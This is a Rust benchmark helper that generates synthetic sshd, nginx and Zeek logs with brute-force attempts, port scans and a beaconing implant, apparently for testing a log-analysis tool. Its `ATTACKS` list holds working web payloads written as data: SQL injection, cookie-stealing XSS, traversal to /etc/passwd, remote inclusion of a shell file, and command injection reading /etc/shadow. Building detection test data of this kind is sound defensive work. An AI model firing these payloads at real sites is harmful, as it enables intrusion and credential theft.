//! A deterministic generator of a realistic `auth.log` for the benchmarks: mostly
//! routine sshd/PAM/cron/sudo traffic, about 15 % attack lines (failed passwords,
//! invalid users, pre-auth probes) from a few hundred addresses.

// Each bench uses some of the generators.
#![allow(dead_code)]

use std::io::Write;

/// xorshift64*: deterministic and dependency-free.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed.max(1))
    }
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545F4914F6CDD1D)
    }
    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

const USERS: [&str; 8] = ["root", "admin", "oracle", "test", "ubuntu", "git", "postgres", "deploy"];
const MONTHS: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/// Writes `lines` lines starting on 1 March, 00:00, about 20 lines per second of log time.
pub fn generate(out: &mut impl Write, lines: u64, seed: u64) -> std::io::Result<u64> {
    generate_share(out, lines, seed, 15)
}

/// [`generate`] with about `percent` % attack lines (from the same 800 addresses).
pub fn generate_share(out: &mut impl Write, lines: u64, seed: u64, percent: u64) -> std::io::Result<u64> {
    let mut rng = Rng::new(seed);
    let mut attack = 0;
    for n in 0..lines {
        let secs = n / 20;
        let (day, rem) = (1 + secs / 86_400, secs % 86_400);
        let (month, day) = (2 + (day - 1) / 28, 1 + (day - 1) % 28);
        let ts = format!(
            "{} {:>2} {:02}:{:02}:{:02}",
            MONTHS[month as usize % 12],
            day,
            rem / 3600,
            rem % 3600 / 60,
            rem % 60
        );
        let pid = 1000 + rng.below(60_000);
        let roll = rng.below(100);
        if roll < percent {
            attack += 1;
            let ip = format!("203.0.{}.{}", rng.below(4), 1 + rng.below(200));
            let user = USERS[rng.below(USERS.len() as u64) as usize];
            let port = 30_000 + rng.below(30_000);
            match rng.below(10) {
                0..=5 => writeln!(out, "{ts} web1 sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2")?,
                6 | 7 => writeln!(
                    out,
                    "{ts} web1 sshd[{pid}]: Failed password for invalid user {user}{port} from {ip} port {port} ssh2"
                )?,
                8 => writeln!(out, "{ts} web1 sshd[{pid}]: Invalid user {user}{port} from {ip} port {port}")?,
                _ => {
                    writeln!(out, "{ts} web1 sshd[{pid}]: Did not receive identification string from {ip} port {port}")?
                }
            }
        } else {
            let ip = format!("10.{}.{}.{}", rng.below(4), rng.below(250), 1 + rng.below(250));
            match rng.below(8) {
                0 => writeln!(
                    out,
                    "{ts} web1 sshd[{pid}]: Accepted publickey for deploy from {ip} port 51022 ssh2: ED25519 SHA256:q2kXh8e1YcN0o7sGd2Yb"
                )?,
                1 => writeln!(
                    out,
                    "{ts} web1 sshd[{pid}]: pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)"
                )?,
                2 => writeln!(out, "{ts} web1 sshd[{pid}]: pam_unix(sshd:session): session closed for user deploy")?,
                3 => writeln!(out, "{ts} web1 systemd-logind[512]: New session {pid} of user deploy.")?,
                4 => writeln!(
                    out,
                    "{ts} web1 CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
                )?,
                5 => writeln!(
                    out,
                    "{ts} web1 sudo:   deploy : TTY=pts/0 ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/systemctl restart app"
                )?,
                6 => writeln!(
                    out,
                    "{ts} web1 sshd[{pid}]: Received disconnect from {ip} port 51022:11: disconnected by user"
                )?,
                _ => writeln!(out, "{ts} web1 sshd[{pid}]: Connection closed by {ip} port 51022 [preauth]")?,
            }
        }
    }
    Ok(attack)
}

const PAGES: [&str; 10] = [
    "/",
    "/index.html",
    "/products",
    "/products/42",
    "/cart",
    "/search",
    "/static/app.js",
    "/static/style.css",
    "/images/logo.png",
    "/api/v1/items",
];
const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "curl/8.5.0",
];
const ATTACKS: [&str; 8] = [
    "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/download?file=../../../../etc/passwd",
    "/index.php?page=http://203.0.113.250/shell.txt",
    "/cgi-bin/ping?host=127.0.0.1;cat%20/etc/shadow",
    "/wp-login.php",
    "/.env",
    "/phpmyadmin/index.php",
];

/// Writes `lines` nginx combined-format lines, about 5 % attack requests (SQL injection,
/// XSS, traversal, file inclusion, command injection, scanner probes and 404s) from a
/// few hundred addresses; returns how many are attacks.
pub fn generate_web(out: &mut impl Write, lines: u64, seed: u64) -> std::io::Result<u64> {
    let mut rng = Rng::new(seed);
    let mut attack = 0;
    for n in 0..lines {
        let secs = n / 50;
        let (day, rem) = (1 + secs / 86_400, secs % 86_400);
        let ts = format!("{:02}/Mar/2026:{:02}:{:02}:{:02} +0000", day.min(28), rem / 3600, rem % 3600 / 60, rem % 60);
        if rng.below(100) < 5 {
            attack += 1;
            let ip = format!("203.0.{}.{}", rng.below(2), 1 + rng.below(200));
            let path = ATTACKS[rng.below(ATTACKS.len() as u64) as usize];
            let ua = if rng.below(4) == 0 { "sqlmap/1.8.4#stable (https://sqlmap.org)" } else { AGENTS[0] };
            writeln!(out, "{ip} - - [{ts}] \"GET {path} HTTP/1.1\" 404 153 \"-\" \"{ua}\"")?;
        } else {
            let ip = format!("198.51.{}.{}", rng.below(100), 1 + rng.below(250));
            let path = PAGES[rng.below(PAGES.len() as u64) as usize];
            let status = [200, 200, 200, 304, 200, 301][rng.below(6) as usize];
            let ua = AGENTS[rng.below(AGENTS.len() as u64) as usize];
            let bytes = 200 + rng.below(50_000);
            writeln!(
                out,
                "{ip} - - [{ts}] \"GET {path} HTTP/1.1\" {status} {bytes} \"https://shop.example/\" \"{ua}\""
            )?;
        }
    }
    Ok(attack)
}

/// Writes a Zeek `conn` log of `lines` records: web and DNS traffic of 2,000 internal
/// hosts, with a few port scanners and a beaconing implant mixed in.
pub fn generate_conn(out: &mut impl Write, lines: u64, seed: u64) -> std::io::Result<()> {
    let mut rng = Rng::new(seed);
    writeln!(out, "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn")?;
    writeln!(
        out,
        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents"
    )?;
    let t0 = 1_772_409_600.0;
    for n in 0..lines {
        let ts = t0 + n as f64 * 0.01;
        let uid = rng.next() & 0xffff_ffff_ffff;
        let roll = rng.below(1000);
        let (src, dst, port, proto, state, ob, rb) = if roll < 5 {
            // Scanners, refused: one sweeps the ports of a few hosts, one tries 22/tcp
            // across a /16.
            let k = n / 100;
            if roll < 3 {
                ("203.0.113.7".to_string(), format!("10.1.0.{}", 1 + k % 4), 1 + k % 10_000, "tcp", "REJ", 0, 0)
            } else {
                ("203.0.113.9".to_string(), format!("10.1.{}.{}", k / 250 % 250, 1 + k % 250), 22, "tcp", "S0", 0, 0)
            }
        } else if n % 6000 == 0 {
            // The implant: every 60 s of log time, the same small request.
            ("10.9.9.9".to_string(), "198.51.100.99".to_string(), 8443, "tcp", "SF", 512, 128)
        } else {
            let src = format!("10.0.{}.{}", rng.below(8), 1 + rng.below(250));
            if rng.below(3) == 0 {
                (src, "10.0.0.2".to_string(), 53, "udp", "SF", 40 + rng.below(30), 80 + rng.below(200))
            } else {
                let dst = format!("198.51.{}.{}", rng.below(200), 1 + rng.below(250));
                (src, dst, 443, "tcp", "SF", 300 + rng.below(5000), 1000 + rng.below(200_000))
            }
        };
        writeln!(
            out,
            "{ts:.6}\tC{uid:012x}\t{src}\t{}\t{dst}\t{port}\t{proto}\t-\t0.5\t{ob}\t{rb}\t{state}\t-\t-\t0\tShADadFf\t5\t500\t5\t500\t-",
            30_000 + rng.below(30_000)
        )?;
    }
    Ok(())
}

/// Writes the logs of one capture into `dir` — `conn.log`, `dns.log`, `http.log`,
/// `ssl.log`, about `records` records in all (Zeek TSV): 2,000 internal hosts reaching
/// 5,000 sites by name, directly over TLS or HTTP (a DNS answer first for a third of
/// them) or through a web proxy (10.0.0.3:3128, CONNECT), and an implant calling its C2
/// through the proxy every 60 s. Returns the records written.
pub fn generate_capture(dir: &std::path::Path, records: u64, seed: u64) -> std::io::Result<u64> {
    let mut rng = Rng::new(seed);
    let open = |name: &str, path: &str, fields: &str| -> std::io::Result<std::io::BufWriter<std::fs::File>> {
        let mut f = std::io::BufWriter::new(std::fs::File::create(dir.join(name))?);
        writeln!(f, "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\t{path}")?;
        writeln!(f, "#fields\t{}", fields.replace(' ', "\t"))?;
        Ok(f)
    };
    let mut conn = open(
        "conn.log",
        "conn",
        "ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto service duration orig_bytes resp_bytes conn_state local_orig local_resp missed_bytes history orig_pkts orig_ip_bytes resp_pkts resp_ip_bytes tunnel_parents",
    )?;
    let mut dns = open(
        "dns.log",
        "dns",
        "ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto trans_id rtt query qclass qclass_name qtype qtype_name rcode rcode_name AA TC RD RA Z answers TTLs rejected",
    )?;
    let mut http = open(
        "http.log",
        "http",
        "ts uid id.orig_h id.orig_p id.resp_h id.resp_p trans_depth method host uri referrer version user_agent origin request_body_len response_body_len status_code status_msg",
    )?;
    let mut ssl = open(
        "ssl.log",
        "ssl",
        "ts uid id.orig_h id.orig_p id.resp_h id.resp_p version cipher curve server_name resumed last_alert next_protocol established",
    )?;
    let t0 = 1_772_409_600.0;
    let mut written = 0;
    let mut n = 0u64;
    while written < records {
        let ts = t0 + n as f64 * 0.02;
        n += 1;
        let uid = rng.next() & 0xffff_ffff_ffff;
        let sport = 30_000 + rng.below(30_000);
        let implant = n % 3000 == 0;
        let src =
            if implant { "10.9.9.9".to_string() } else { format!("10.0.{}.{}", rng.below(8), 1 + rng.below(250)) };
        let site = rng.below(5000);
        let name =
            if implant { "c2.bench-example.net".to_string() } else { format!("s{site}.example{}.com", site % 97) };
        let addr = format!("198.51.{}.{}", site % 200, 1 + site / 200);
        let how = if implant { 9 } else { rng.below(10) };
        let (dst, port, ob) = match how {
            0..=5 => (addr.as_str(), 443, 300 + rng.below(5000)),
            6..=7 => (addr.as_str(), 80, 200 + rng.below(2000)),
            _ => ("10.0.0.3", 3128, 300 + rng.below(5000)),
        };
        if how <= 7 && rng.below(3) == 0 {
            writeln!(
                dns,
                "{:.6}\tD{uid:012x}\t{src}\t{sport}\t10.0.0.2\t53\tudp\t{}\t0.01\t{name}\t1\tC_INTERNET\t1\tA\t0\tNOERROR\tF\tF\tT\tT\t0\t{addr}\t300.0\tF",
                ts - 0.01,
                rng.below(65535)
            )?;
            written += 1;
        }
        writeln!(
            conn,
            "{ts:.6}\tC{uid:012x}\t{src}\t{sport}\t{dst}\t{port}\ttcp\t-\t0.5\t{ob}\t{}\tSF\t-\t-\t0\tShADadFf\t5\t500\t5\t500\t-",
            1000 + rng.below(200_000)
        )?;
        match how {
            0..=5 => writeln!(
                ssl,
                "{:.6}\tC{uid:012x}\t{src}\t{sport}\t{dst}\t443\tTLSv13\tTLS_AES_128_GCM_SHA256\tx25519\t{name}\tF\t-\th2\tT",
                ts + 0.01
            )?,
            6..=7 => writeln!(
                http,
                "{:.6}\tC{uid:012x}\t{src}\t{sport}\t{dst}\t80\t1\tGET\t{name}\t/index.html\t-\t1.1\tMozilla/5.0\t-\t0\t{}\t200\tOK",
                ts + 0.01,
                rng.below(90_000)
            )?,
            _ => writeln!(
                http,
                "{:.6}\tC{uid:012x}\t{src}\t{sport}\t{dst}\t3128\t1\tCONNECT\t{name}\t{name}:443\t-\t1.1\tMozilla/5.0\t-\t0\t0\t200\tOK",
                ts + 0.01
            )?,
        }
        written += 2;
    }
    for mut f in [conn, dns, http, ssl] {
        f.flush()?;
    }
    Ok(written)
}

/// Writes a Zeek `conn` log of `pairs` connections, each of a distinct pair: 4,096
/// internal hosts, each destination used once (what state per pair costs at its cap).
pub fn generate_pairs(out: &mut impl Write, pairs: u64) -> std::io::Result<()> {
    writeln!(out, "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn")?;
    writeln!(
        out,
        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state"
    )?;
    let t0 = 1_772_409_600.0;
    for n in 0..pairs {
        let src = format!("10.{}.{}.{}", n % 16, (n / 16) % 16, 1 + (n / 256) % 16);
        let d = n / 4096;
        let dst = format!("{}.{}.{}.{}", 11 + d / 65_536 % 100, d / 256 % 256, d % 256, 1 + n % 254);
        writeln!(out, "{:.6}\tC{n:012x}\t{src}\t40000\t{dst}\t443\ttcp\t-\t0.5\t300\t900\tSF", t0 + n as f64 * 0.01)?;
    }
    Ok(())
}
